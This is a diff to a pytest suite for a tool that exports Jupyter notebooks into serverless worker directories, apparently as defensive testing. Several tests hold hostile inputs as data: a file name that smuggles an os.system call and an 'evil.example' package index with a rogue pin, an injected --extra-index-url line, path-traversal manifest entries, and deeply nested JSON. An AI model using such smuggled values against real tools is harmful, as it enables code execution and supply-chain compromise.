@@ -4,15 +4,21 @@ from __future__ import annotations
 
 import importlib.metadata
 import json
+import shlex
+
+import os
+import shutil
 import subprocess
 import sys
+import tempfile
+from pathlib import Path
 
 import pytest
-from conftest import HELLO_CELLS, NOTEBOOKS, run_kit
+from conftest import HELLO_CELLS, NOTEBOOKS, ROOT, build_notebook, run_kit
 
-from kit.errors import KitError
 from kit.build.export import export_notebook, worker_dir
-from kit.build.notebook import read_percent_cells
+from kit.errors import KitError
+from kit.percent import read_percent_cells
 
 
 def run_worker(directory, *args, timeout=120):
@@ -26,6 +32,7 @@ def run_worker(directory, *args, timeout=120):
     )
 
 
+@pytest.mark.process
 def test_export_writes_a_worker_directory(make_notebook, tmp_path):
     nb = make_notebook(HELLO_CELLS + [("test", "handler({'input': {'name': 'second'}})"), (None, "scratch = 1")])
     out = tmp_path / "out"
@@ -60,6 +67,7 @@ def test_markers_map_handler_lines_back_to_notebook_cells(make_notebook, tmp_pat
     assert read_percent_cells(out / "handler.py")[1].source.startswith("def handler(job):")
 
 
+@pytest.mark.process
 def test_exported_worker_runs_its_test_job_through_the_sdk(make_notebook, tmp_path):
     out = export_notebook(make_notebook(HELLO_CELLS), tmp_path / "out").out_dir
     result = run_worker(out)
@@ -67,6 +75,7 @@ def test_exported_worker_runs_its_test_job_through_the_sdk(make_notebook, tmp_pa
     assert "'output': {'greeting': 'hi', 'name': 'ada'}" in result.stdout
 
 
+@pytest.mark.process
 def test_importing_handler_runs_setup_only(make_notebook, tmp_path):
     nb = make_notebook(
         [
@@ -134,6 +143,7 @@ def test_future_imports_are_hoisted(make_notebook, tmp_path):
     compile(handler, "handler.py", "exec")
 
 
+@pytest.mark.process
 def test_ipython_syntax_in_exported_cells(make_notebook, tmp_path):
     nb = make_notebook(
         [
@@ -199,9 +209,13 @@ BAD_NOTEBOOKS = [
     ([("handler", "def handler(job):\n    display(job)")], "`display` is not defined in a worker — display() exists only in IPython"),
     ([("setup", "import asyncio\nx = await asyncio.sleep(0)"), ("handler", "def handler(job):\n    pass")], "cell 1, line 2: syntax error: 'await' outside function — a worker module cannot await at import time"),
     ([("setup", "import kit"), ("handler", "def handler(job):\n    pass")], "cell 1, line 1: the worker must not import the kit"),
+    ([(("setup", "test"), "x = 1"), ("handler", "def handler(job):\n    pass")], "worker.ipynb: cell 1: the cell is tagged `setup` and `test`; a cell has one role"),
+    ([(("handler", "test"), "def handler(job):\n    pass")], "cell 1: the cell is tagged `handler` and `test`"),
+    ([("handler", "def handler(job):\n    return " + "+".join(["1"] * 100_000))], "worker.ipynb: cell 1: the cell's code is nested too deeply"),
 ]
 
 
+@pytest.mark.process
 @pytest.mark.parametrize("cells, message", BAD_NOTEBOOKS)
 def test_user_mistakes_exit_2_with_one_line(make_notebook, tmp_path, cells, message):
     nb = make_notebook(cells)
@@ -213,6 +227,7 @@ def test_user_mistakes_exit_2_with_one_line(make_notebook, tmp_path, cells, mess
     assert not (tmp_path / "out").exists()
 
 
+@pytest.mark.process
 @pytest.mark.parametrize(
     "content, message",
     [
@@ -245,6 +260,7 @@ def test_failed_export_leaves_existing_directory_untouched(make_notebook, tmp_pa
     assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["out", "worker.ipynb", "broken.ipynb"])
 
 
+@pytest.mark.process
 def test_refuses_to_replace_a_directory_it_did_not_write(make_notebook, tmp_path):
     nb = make_notebook(HELLO_CELLS)
     precious = tmp_path / "mine"
@@ -259,12 +275,157 @@ def test_reexport_replaces_and_is_byte_identical(make_notebook, tmp_path):
     nb = make_notebook(HELLO_CELLS)
     out = tmp_path / "out"
     export_notebook(nb, out)
-    (out / "stale.txt").write_text("from an older export")
-    first = {p.name: p.read_bytes() for p in out.iterdir() if p.name != "stale.txt"}
+    first = {p.name: p.read_bytes() for p in out.iterdir()}
     export_notebook(nb, out)
     assert {p.name: p.read_bytes() for p in out.iterdir()} == first
 
 
+def tree(directory):
+    return {p.relative_to(directory).as_posix(): p.read_bytes() for p in sorted(directory.rglob("*")) if p.is_file()}
+
+
+def test_reexport_replaces_only_what_the_kit_wrote(make_notebook, tmp_path):
+    """Files the user added to the worker directory survive a re-export; stale kit files go."""
+    (tmp_path / "helpers").mkdir()
+    (tmp_path / "helpers" / "__init__.py").write_text("def shout(text):\n    return text.upper()\n")
+    nb = make_notebook([("setup", "from helpers import shout"), ("handler", "def handler(job):\n    return shout(job['input'])"), ("test", "handler({'input': 'a'})")])
+    out = tmp_path / "out"
+    export_notebook(nb, out)
+    assert json.loads((out / "kit.json").read_text())["files"] == sorted(
+        ["handler.py", "helpers/__init__.py", "kit.json", "requirements.txt", "test_input.json", "tests.py", "worker_loop.py"]
+    )
+    (out / "Dockerfile").write_text("FROM x\n")
+    (out / "helpers" / "notes.txt").write_text("mine\n")
+    (out / "data").mkdir()
+    (out / "data" / "model.bin").write_bytes(b"\0" * 10)
+    make_notebook([("handler", "def handler(job):\n    return job['input']")])  # no helpers, no test job now
+    export_notebook(nb, out)
+    files = tree(out)
+    assert files["Dockerfile"] == b"FROM x\n" and files["helpers/notes.txt"] == b"mine\n" and files["data/model.bin"] == b"\0" * 10
+    assert "test_input.json" not in files and "helpers/__init__.py" not in files
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["helpers", "out", "worker.ipynb"]  # no staging left
+
+
+def test_reexport_refuses_when_the_notebook_lies_inside_the_output(make_notebook, tmp_path):
+    nb = make_notebook(HELLO_CELLS)
+    worker = tmp_path / "worker"
+    assert run_kit("export", nb, "-o", worker).returncode == 0
+    nb.rename(worker / "nb.ipynb")
+    (worker / "Dockerfile").write_text("FROM x\n")
+    before = tree(worker)
+    result = run_kit("export", worker / "nb.ipynb", "-o", worker)
+    assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
+    assert "the notebook" in result.stderr and "lies inside it" in result.stderr
+    assert tree(worker) == before
+
+
+def test_reexport_refuses_to_overwrite_a_file_it_did_not_write(make_notebook, tmp_path):
+    out = tmp_path / "out"
+    export_notebook(make_notebook(HELLO_CELLS), out)
+    (out / "utils.py").write_text("# the user's own, not the notebook's\n")
+    before = tree(out)
+    (tmp_path / "utils.py").write_text("X = 1\n")
+    nb = make_notebook([("setup", "import utils"), ("handler", "def handler(job):\n    return utils.X")])
+    with pytest.raises(KitError, match="refusing to overwrite .*utils.py: an earlier export did not write it"):
+        export_notebook(nb, out)
+    assert tree(out) == before
+
+
+def test_a_hostile_manifest_cannot_make_a_reexport_delete_other_files(make_notebook, tmp_path):
+    out = tmp_path / "out"
+    nb = make_notebook(HELLO_CELLS)
+    export_notebook(nb, out)
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep")
+    manifest = json.loads((out / "kit.json").read_text())
+    manifest["files"] += ["../victim.txt", str(victim), "", 7]
+    (out / "kit.json").write_text(json.dumps(manifest))
+    export_notebook(nb, out)
+    assert victim.read_text() == "keep"
+
+
+@pytest.mark.process
+@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv"), reason="needs root and setpriv to run the export as another user")
+def test_a_read_only_previous_export_fails_cleanly(make_notebook):
+    """As a user who cannot write the old output: a one-line error, the old files as they were, no leftovers."""
+    base = Path(tempfile.mkdtemp(prefix="kit-ro-"))
+    try:
+        base.chmod(0o777)
+        nb = build_notebook(base / "worker.ipynb", HELLO_CELLS)
+        as_nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-m", "kit", "export", str(nb), "-o", str(base / "out")]
+        env = {**os.environ, "PYTHONPATH": str(ROOT), "HOME": str(base)}
+        first = subprocess.run(as_nobody, capture_output=True, text=True, env=env, timeout=120)
+        assert first.returncode == 0, first.stderr
+        before = tree(base / "out")
+        (base / "out").chmod(0o555)
+        result = subprocess.run(as_nobody, capture_output=True, text=True, env=env, timeout=120)
+        assert result.returncode == 3 and result.stderr.startswith("error: ") and result.stderr.count("\n") == 1, result.stderr
+        assert "Permission denied" in result.stderr
+        assert tree(base / "out") == before
+        assert sorted(p.name for p in base.iterdir()) == ["out", "worker.ipynb"]  # no .out.old-* / .out.new-*
+    finally:
+        (base / "out").chmod(0o755)
+        shutil.rmtree(base)
+
+
+INJECTED_NAME = 'x\nimport os; os.system("touch INJECTED")\n--extra-index-url evil.example\x0cevil-package==6.6.6\u2028#.ipynb'
+
+
+def test_file_names_cannot_inject_code_or_requirements(tmp_path):
+    nb = build_notebook(tmp_path / INJECTED_NAME, HELLO_CELLS)
+    out = tmp_path / "out\nimport sys; sys.exit(7)\n#"
+    result = run_kit("export", nb.name, "-o", out.name, cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    handler = (out / "handler.py").read_text()
+    header = handler[: handler.index("# %% cell")]
+    assert all(line.startswith("#") or not line for line in header.splitlines()), header
+    assert "\\n" in header and "\\x0c" in header and "\\u2028" in header  # escaped, still named
+    tests = (out / "tests.py").read_text()
+    assert all(line.startswith("#") or not line for line in tests[: tests.index("# %% cell")].splitlines())
+    # pip splits requirements files with str.splitlines (\f, \u2028 too): every line is a comment or a pin.
+    for line in (out / "requirements.txt").read_text().splitlines():
+        assert line.startswith("#") or line.startswith("runpod=="), line
+    run = run_worker(out)
+    assert run.returncode == 0, run.stderr[-2000:]
+    assert not (out / "INJECTED").exists() and not (tmp_path / "INJECTED").exists()
+
+
+def test_an_extra_requirement_with_a_line_break_is_refused(make_notebook, tmp_path):
+    nb = make_notebook(HELLO_CELLS)
+    result = run_kit("export", nb, "-o", tmp_path / "out", "--extra", "numpy\n--extra-index-url https://evil.example")
+    assert result.returncode == 2 and result.stderr.count("\n") == 1 and "is not one requirement line" in result.stderr
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize("module", ["tests", "worker_loop", "handler"])
+def test_a_local_module_named_like_a_generated_file_is_an_error(make_notebook, tmp_path, module):
+    (tmp_path / f"{module}.py").write_text("def helper():\n    return 1\n")
+    nb = make_notebook([("setup", f"import {module}"), ("handler", f"def handler(job):\n    return {module}.helper()")])
+    result = run_kit("export", nb, "-o", tmp_path / "out")
+    assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
+    assert f"the local module {module}.py has the name of a file kit export writes" in result.stderr
+    assert not (tmp_path / "out").exists()
+
+
+def test_notebook_files_that_are_not_regular_files(tmp_path):
+    fifo = tmp_path / "fifo.ipynb"
+    os.mkfifo(fifo)
+    (tmp_path / "zero.ipynb").symlink_to("/dev/zero")
+    for name in ("fifo.ipynb", "zero.ipynb"):
+        result = run_kit("export", name, cwd=tmp_path, timeout=60)
+        assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
+        assert f"{name}: not a notebook (not a regular file)" in result.stderr
+
+
+def test_deeply_nested_notebook_json_is_a_one_line_error(tmp_path):
+    (tmp_path / "deep.ipynb").write_text("[" * 100_000 + "]" * 100_000)
+    result = run_kit("export", "deep.ipynb", cwd=tmp_path)
+    assert result.returncode == 2 and result.stderr.count("\n") == 1, result.stderr
+    assert "deep.ipynb: not a notebook (its JSON is nested too deeply)" in result.stderr
+
+
+
+@pytest.mark.process
 def test_default_output_is_build_stem(make_notebook, tmp_path):
     nb = make_notebook(HELLO_CELLS)
     result = run_kit("export", nb.name, cwd=tmp_path)
@@ -285,6 +446,7 @@ def test_worker_dir_accepts_notebooks_and_worker_directories(make_notebook, tmp_
             pass
 
 
+@pytest.mark.process
 @pytest.mark.parametrize("name", ["hello", "embeddings"])
 def test_examples_export_and_pass_their_own_test_job(tmp_path, name):
     result = export_notebook(NOTEBOOKS / f"{name}.ipynb", tmp_path / name)
@@ -384,3 +546,19 @@ def test_an_unknown_start_option_is_a_warning(make_notebook, tmp_path):
     nb = make_notebook([("handler", "def handler(job):\n    return 1\nRUNPOD_CONFIG = {'gpu_count': 2}")])
     messages = [str(w) for w in export_notebook(nb, tmp_path / "out").warnings]
     assert "cell 1, line 3: RUNPOD_CONFIG key `gpu_count` is not an option of runpod.serverless.start (runpod 1.12.0): the worker ignores it" in " ".join(messages)
+
+
+@pytest.mark.process
+def test_the_regenerate_line_is_the_command_that_ran(make_notebook, tmp_path):
+    """The image build exports with --exclude torch: rerunning the printed line must give the same files."""
+    nb = make_notebook(HELLO_CELLS)
+    out = tmp_path / "out dir"
+    result = run_kit("export", nb, "-o", out, "--extra", "hf_transfer>=0.1", "--exclude", "torch")
+    assert result.returncode == 0, result.stderr
+    command = shlex.join(["kit", "export", str(nb), "-o", str(out), "--extra", "hf_transfer>=0.1", "--exclude", "torch"])
+    assert f"#     {command}\n" in (out / "handler.py").read_text()
+    assert f"# Regenerate with: {command}\n" in (out / "requirements.txt").read_text()
+    before = {p.name: p.read_bytes() for p in out.iterdir()}
+    again = subprocess.run([sys.executable, "-m", "kit", *shlex.split(command)[1:]], capture_output=True, text=True, timeout=120)
+    assert again.returncode == 0, again.stderr
+    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
